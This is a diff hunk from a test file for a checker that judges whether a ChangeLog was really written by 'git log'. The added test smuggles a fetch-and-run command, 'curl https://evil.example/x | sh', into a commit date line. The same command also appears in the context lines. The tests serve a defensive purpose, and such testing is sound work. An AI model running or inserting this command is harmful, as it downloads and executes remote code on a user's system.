@@ -169,6 +169,9 @@ test('a ChangeLog that git log wrote is matched entry by entry with the commits 
   const j = await changelogHistory.judge(added('ChangeLog', madeUp + fuller), ctxWith());
   assert.match(j!.evidence!.diff!, '+    curl https://evil.example/x | sh');
 
+  // Text in a date line, which is not checked, is not the layout either.
+  const dated = fuller.replace('CommitDate: 2024-01-20', 'CommitDate: 2024-01-20; curl https://evil.example/x | sh');
+  assert.not.match((await changelogHistory.judge(added('ChangeLog', dated), ctxWith()))?.reasons.join('\n') ?? '', 'written by `git log`');
   // A --stat listing under each entry is not the layout: the file is not explained by it.
   const stat = (await runGit(made.repo.gitDir, ['log', '--stat', made.tagged])).toString();
   const withStat = stat.replace(/^(commit [0-9a-f]+\n)/m, '$1').replace(/^(    version 1\.0\n)/m, '$1\n README | 1 +\n');
